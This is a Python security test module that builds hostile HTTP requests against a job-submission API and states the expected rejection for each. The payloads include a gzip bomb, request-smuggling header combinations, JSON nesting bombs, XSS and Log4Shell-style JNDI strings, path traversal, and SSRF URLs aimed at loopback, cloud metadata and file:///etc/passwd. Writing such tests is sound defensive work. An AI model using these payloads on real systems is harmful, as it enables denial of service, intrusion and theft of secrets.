"""Hostile bodies: their lengths, their JSON, and the URLs in it."""

import gzip
import json
from collections.abc import Iterator
from functools import partial

from tests.security.bait import ADDRESS, URL
from tests.security.hostile import ACCEPTED
from tests.security.messages import (
    FORM_TYPE,
    INVALID_OPTION,
    JSON_TYPE,
    MALFORMED,
    UNANSWERED,
    HostileRequest,
    form,
    good_parts,
    hostile,
    post_json,
    request,
)


def bodies() -> Iterator[HostileRequest]:
    """Yield bodies that are longer, shorter or larger than declared."""
    bomb = gzip.compress(b'{"metadata": {"a": "' + bytes(100 << 20), 1)
    encoding = b"Content-Encoding: gzip"
    squeezed = partial(request, JSON_TYPE, encoding, body=bomb)
    yield HostileRequest("json_that_inflates", squeezed, "unsupported_content_encoding")
    squeezed = partial(request, FORM_TYPE, encoding, body=gzip.compress(form(*good_parts())))
    yield HostileRequest("form_that_inflates", squeezed, "unsupported_content_encoding")
    for name, lines in {
        "negative": [b"Content-Length: -1"],
        "of_letters": [b"Content-Length: abc"],
        "with_a_sign": [b"Content-Length: +2"],
        "twice": [b"Content-Length: 2", b"Content-Length: 3"],
        "beside_chunks": [b"Content-Length: 2", b"Transfer-Encoding: chunked"],
        "of_an_unknown_encoding": [b"Transfer-Encoding: x"],
        "of_chunks_in_gzip": [b"Transfer-Encoding: chunked, gzip"],
        "of_two_lines": [b"Content-Length: 2\r\n 3"],
    }.items():
        made = partial(request, JSON_TYPE, *lines, body=b"{}", length=False)
        yield HostileRequest(f"length_{name}", made, MALFORMED)
    for name, length in {"of_20_digits": b"9" * 20, "of_a_petabyte": b"1" + b"0" * 15}.items():
        made = partial(request, JSON_TYPE, b"Content-Length: " + length, body=b"{}", length=False)
        expected = MALFORMED if name == "of_20_digits" else "body_too_large"
        yield HostileRequest(f"length_{name}", made, expected)
    short = partial(request, JSON_TYPE, b"Content-Length: 9", body=b"{}", length=False)
    yield HostileRequest("length_that_never_comes", short, UNANSWERED, hangs_up=True)
    chunked = b"Transfer-Encoding: chunked"
    endless = partial(request, JSON_TYPE, chunked, body=b"FFFFFFFFFFFFFFFF\r\n{}", length=False)
    yield HostileRequest("chunk_of_16_digits", endless, UNANSWERED, hangs_up=True)
    for name, body in {
        "of_minus_one": b"-1\r\n{}\r\n0\r\n\r\n",
        "of_20_digits": b"FFFFFFFFFFFFFFFFFFFF\r\n{}",
        "of_no_number": b"xyz\r\n{}\r\n0\r\n\r\n",
        "too_short": b"1\r\n{}\r\n0\r\n\r\n",
    }.items():
        made = partial(request, JSON_TYPE, chunked, body=body, length=False)
        yield HostileRequest(f"chunk_{name}", made, MALFORMED)
    for name, body in {
        "extensions": b"2;" + b"a" * 200_000 + b"\r\n{}\r\n0\r\n\r\n",
        "trailers": b"2\r\n{}\r\n0\r\n" + b"A: b\r\n" * 50_000 + b"\r\n",
    }.items():
        made = partial(request, JSON_TYPE, chunked, body=body, length=False)
        yield HostileRequest(f"chunks_with_long_{name}", made, "headers_too_large")


# JSON


GOOD = {
    "portrait_url": "https://example.org/a",
    "audio_url": "https://example.org/b",
    "consent": True,
}


def with_good(**values: object) -> bytes:
    """Build a request for a job, with some values replaced."""
    return json.dumps({**GOOD, **values}).encode()


def documents() -> Iterator[HostileRequest]:
    """Yield invalid JSON, or JSON with too much content."""
    for name, body in {
        "of_a_million_lists": b"[" * 1_000_000,
        "of_a_million_objects": b'{"a":' * 300_000,
        "of_no_number": b'{"seed": NaN}',
        "of_infinity": b'{"intensity": Infinity}',
        "of_half_a_character": rb'{"metadata": {"a": "\ud800"}}',
        "of_broken_text": b'{"metadata": {"a": "\xff\xfe"}}',
        "behind_a_byte_order_mark": b"\xef\xbb\xbf{}",
        "in_utf_16": '{"consent": true}'.encode("utf-16"),
        "of_nothing": b"",
        "of_null": b"null",
        "of_zeros": bytes(1_000),
        "with_a_raw_newline": b'{"a": "\n"}',
    }.items():
        yield hostile(f"json_{name}", MALFORMED, post_json, body)
    yield hostile("json_of_17_megabytes", "body_too_large", post_json, b" " * 17_000_000)
    keys = json.dumps({f"k{n}": n for n in range(100_000)}).encode()
    yield hostile("json_of_100000_names", "unknown_option", post_json, keys)
    yield hostile("json_of_a_prototype", "unknown_option", post_json, with_good(__proto__={"a": 1}))
    twice = b'{"consent": false, "consent": true}'
    yield hostile("json_with_a_name_twice", "missing_part", post_json, twice)
    odd: dict[str, dict[str, object]] = {
        "seed_of_a_googol": {"seed": 10**100},
        "seed_of_a_float": {"seed": 1e300},
        "seed_of_a_list": {"seed": [1]},
        "intensity_of_a_number_too_large": {"intensity": 10**400},
        "metadata_of_too_many": {"metadata": {str(n): "x" for n in range(17)}},
        "metadata_of_too_much": {"metadata": {"a": "x" * 501}},
        "metadata_with_a_name_of_two_lines": {"metadata": {"a\r\nX-Injected": "1"}},
        "metadata_of_metadata": {"metadata": {"a": {"b": "c"}}},
        "emotion_of_a_megabyte": {"emotion": "x" * 1_000_000},
    }
    for name, values in odd.items():
        yield hostile(f"json_{name}", INVALID_OPTION, post_json, with_good(**values))
    number = b'{"seed": 1' + b"0" * 1_000_000 + b"}"
    yield hostile("json_of_a_number_of_a_million_digits", MALFORMED, post_json, number)
    for name, text in {
        "two_lines": "a\r\nX-Injected: 1",
        "a_nul": "a\x00b",
        "a_terminal's_orders": "\x1b]0;owned\x07\x1b[2J",
        "text_written_backwards": "\u202eabc",
        "markup": "<script>alert(1)</script>",
        "a_lookup": "${jndi:ldap://" + ADDRESS + "/a}",
    }.items():
        body = with_good(metadata={"note": text})
        yield hostile(f"metadata_of_{name}", ACCEPTED, post_json, body)
    for name, asset in {
        "a_parent": "../../jobs/x/portrait",
        "a_key": "jobs/00000000/request.json",
        "a_nul": "asset\x00",
        "two_lines": "asset\r\nX-Injected: 1",
        "a_pattern": "*",
        "another_tenant": "other/asset",
    }.items():
        assets = json.dumps({"portrait_asset": asset, "audio_asset": asset, "consent": True})
        yield hostile(f"asset_of_{name}", "asset_not_found", post_json, assets.encode())


# URLs


ADDRESSES = {
    "this_machine": URL,
    "this_machine_in_tls": "https://127.0.0.1/",
    "this_machine_in_ipv6": "https://[::1]/",
    "this_machine_in_mapped_ipv6": "https://[::ffff:127.0.0.1]/",
    "this_machine_in_octal": "https://0177.0.0.1/",
    "this_machine_in_hexadecimal": "https://0x7f.1/",
    "this_machine_in_one_number": "https://2130706433/",
    "this_machine_in_circles": "https://\u2460\u2461\u2466.0.0.1/",
    "this_machine_between_other_dots": "https://127\u30020\u30020\u30021/",
    "nowhere": "https://0.0.0.0/",
    "a_cloud's_secrets": "https://169.254.169.254/latest/meta-data/",
    "a_private_network": "https://10.0.0.1/",
    "another_scheme": "file:///etc/passwd",
    "gopher": f"gopher://{ADDRESS}/_GET",
    "data": "data:image/png,AAAA",
    "a_user": "https://example.org@127.0.0.1/",
    "a_user_and_a_backslash": f"https://example.org\\@{ADDRESS}/",
    "another_port": "https://example.org:22/",
    "two_lines": "https://example.org/\r\nX-Injected: 1",
    "a_nul": "https://example.org/\x00",
    "a_tab": "ht\ttps://example.org/",
    "no_host": "https:///etc/passwd",
    "too_much": "https://example.org/" + "a" * 3_000,
    "a_long_host": "https://" + "a." * 900 + "org/",
    "a_host_of_one_long_label": "https://" + "\u00e4" * 500 + ".org/",
}


def addresses() -> Iterator[HostileRequest]:
    """Yield requests with URLs that are not allowed."""
    for name, address in ADDRESSES.items():
        for option in ("webhook_url", "portrait_url"):
            body = with_good(**{option: address})
            yield hostile(f"{option}_of_{name}", INVALID_OPTION, post_json, body)
